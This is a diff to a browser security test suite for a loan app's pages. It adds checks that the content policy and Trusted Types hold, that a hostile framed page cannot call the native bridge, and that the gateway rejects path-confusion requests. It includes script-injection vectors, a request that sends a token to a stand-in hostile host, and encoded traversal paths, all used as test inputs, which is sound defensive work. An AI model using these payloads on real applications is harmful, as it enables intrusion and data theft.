@@ -1,5 +1,7 @@
 import { hostileRan, strayRequests } from './attack';
+import { startFront } from './front';
 import { expect, test } from './journey';
+import { aroundPage } from './native';
 
 const DETAIL = { productId: '3101', orderId: 'ID-174-1' };
 
@@ -10,10 +12,10 @@ test('the policy of the page is in force: inline script, eval, javascript addres
 }) => {
   noise.allow(/Content Security Policy/);
   noise.allow(/This document requires 'Trusted/);
-  noise.allow(/Creating a TrustedTypePolicy named 'mine'/);
+  noise.allow(/Creating a TrustedTypePolicy named '(?:mine|shell-html)'/);
   const stray = strayRequests(page, world);
   await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
-  await expect(page.getByRole('button', { name: 'Layanan Pelanggan' })).toBeVisible();
+  await expect(page.getByRole('link', { name: 'Layanan Pelanggan' })).toBeVisible();
   await page.evaluate(() => {
     // In a task of its own: what a debugger evaluates may use eval, a page may not.
     setTimeout(() => {
@@ -42,6 +44,15 @@ test('the policy of the page is in force: inline script, eval, javascript addres
       });
       attempt('a policy of its own', () =>
         (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('mine', {}),
+      );
+      // Its name is ours since the start, though nothing has needed it yet.
+      attempt('the policy that makes HTML', () =>
+        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy(
+          'shell-html',
+          {
+            createHTML: (text: string) => text,
+          },
+        ),
       );
       attempt('handler attribute', () => {
         const button = document.createElement('button');
@@ -88,7 +99,13 @@ test('the policy of the page is in force: inline script, eval, javascript addres
   const outcomes = await (
     await page.waitForFunction(() => (window as unknown as { outcomes?: Record<string, string> }).outcomes)
   ).jsonValue();
-  expect(outcomes).toMatchObject({ eval: 'EvalError', function: 'EvalError', innerHTML: 'TypeError', 'a policy of its own': 'TypeError' });
+  expect(outcomes).toMatchObject({
+    eval: 'EvalError',
+    function: 'EvalError',
+    innerHTML: 'TypeError',
+    'a policy of its own': 'TypeError',
+    'the policy that makes HTML': 'TypeError',
+  });
   await page.waitForTimeout(500);
   const fetched = await page.evaluate(() =>
     fetch('https://hostile.example/?token=1').then(
@@ -125,9 +142,65 @@ for (const [market, productId, apply, intro] of [
     expect(inside.attributes).toEqual([]);
     // Only our own frame, without access to this page.
     await expect(dialog.locator('iframe')).toHaveCount(1);
-    await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
+    await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', '');
     expect(await hostileRan(page)).toBeUndefined();
     expect(stray).toEqual([]);
+  });
+}
+
+/** A page that speaks to the native bridge in every way that a frame has, with any click and without. */
+const SPEAKING = `<!doctype html><meta http-equiv="refresh" content="1;url=javascript:AppBridge.openPage('refresh')">
+<h1>Framed terms</h1><script>AppBridge.callPhone('0800')</script><script>parent.AppBridge.openPage('loanapp://x')</script>
+<script src="data:text/javascript,AppBridge.openPage('data')"></script>
+<img src="x:" onerror="AppBridge.openPage('handler')"><body onload="AppBridge.openPage('load')">
+<iframe srcdoc="<script>AppBridge.openPage('inner')</script>"></iframe>
+<a target="_top" href="javascript:AppBridge.openPage('link')">further</a><form target="_top" action="javascript:AppBridge.openPage('form')"><button>send</button></form>`;
+
+for (const native of ['android', 'ios'] as const) {
+  test(`scripts of a framed agreement do not reach the native bridge, though every frame has it: ${native}`, async ({
+    world,
+    page,
+    certificate,
+    noise,
+  }) => {
+    // The browser may report what it has stopped.
+    noise.allow(/allow-forms|Refused to refresh|Unsafe attempt to initiate navigation|ERR_UNKNOWN_URL_SCHEME/);
+    const bridge = native === 'android' ? 'AppBridge' : 'webkit.messageHandlers';
+    const document = native === 'android' ? SPEAKING : SPEAKING.replace(/AppBridge\.(\w+)\(/g, 'webkit.messageHandlers.$1.postMessage(');
+    const foreign = await startFront((_request, response) => {
+      response.writeHead(200, { 'content-type': 'text/html' });
+      response.end(document);
+    }, certificate);
+    await world.configure({ hosts: { allowed: [foreign.origin] } });
+    const calls = await aroundPage(page, native);
+    // The one of another site, and one of our own whose server sends no policy with it.
+    world.front.fallSick(/agreement\/0$/, { kind: 'change', change: () => document, withoutHeaders: ['content-security-policy'] });
+    for (const address of [`${foreign.origin}/terms`, `${world.front.origin}/sandbox/agreement/0`]) {
+      const rule = world.front.fallSick(/loan-detail-confirm$/, {
+        kind: 'change',
+        change: (body) => {
+          const reply = JSON.parse(body) as { data: object };
+          return JSON.stringify({ ...reply, data: { ...reply.data, popAgreementUrl: address } });
+        },
+      });
+      await page.goto(world.address('loanConfirm', 'indonesia', { productId: '3101' }));
+      // There is no agreeing before the list of agreements is there.
+      await expect(page.getByRole('button', { name: 'Perjanjian Pinjaman' })).toBeVisible();
+      await page.getByRole('button', { name: 'Ajukan Sekarang' }).tap();
+      const framed = page.frameLocator('iframe');
+      await expect(framed.getByRole('heading', { name: 'Framed terms' })).toBeVisible();
+      await framed.getByRole('link', { name: 'further' }).tap();
+      await framed.getByRole('button', { name: 'send' }).tap();
+      // Longer than the page's own refresh.
+      await page.waitForTimeout(1500);
+      expect(calls, `${bridge} from ${address}`).toEqual([]);
+      expect(page.url()).toContain('/loanConfirm?');
+      rule.end();
+    }
+    // The bridge was there all along: the page itself is heard.
+    await page.goto(world.address('login', 'indonesia'));
+    await expect.poll(() => calls.map(({ action }) => action)).toEqual(['returnLogin']);
+    await foreign.close();
   });
 }
 
@@ -148,4 +221,26 @@ test('a hostile query is words at most', async ({ world, page }) => {
   expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
   expect(await world.sandbox.requests('virtualAccount')).toEqual([]);
   expect(stray).toEqual([]);
+});
+
+test('of the device, the page may ask for what the app uses; what the header closes is closed in the browser', async ({ world, page }) => {
+  const document = await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
+  const closed = [...((await document?.headerValue('permissions-policy')) ?? '').matchAll(/([a-z-]+)=\(\)/g)].map(([, name]) => name);
+  expect(closed).toEqual(expect.arrayContaining(['geolocation', 'microphone', 'payment']));
+  const open = await page.evaluate(() =>
+    (window.document as unknown as { featurePolicy: { allowedFeatures(): string[] } }).featurePolicy.allowedFeatures(),
+  );
+  expect(open).toEqual(expect.arrayContaining(['camera', 'clipboard-write']));
+  expect(open.filter((name) => closed.includes(name))).toEqual([]);
+});
+
+test('the gateway passes nothing on that can be read in two ways, nor a method that no call has', async ({ world, page, noise }) => {
+  noise.allow(/the server responded with a status of 40[05]/);
+  await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
+  await expect(page.getByRole('link', { name: 'Layanan Pelanggan' })).toBeVisible();
+  const answers = await page.evaluate(() =>
+    Promise.all(['/byfhns/..;/sandbox', '/byfhns/%252e%252e/sandbox', '/byfhns//sandbox'].map(async (path) => (await fetch(path)).status)),
+  );
+  expect(answers).toEqual([400, 400, 400]);
+  expect(await page.evaluate(async () => (await fetch('/byfhns/v3/contract/contract', { method: 'DELETE' })).status)).toBe(405);
 });
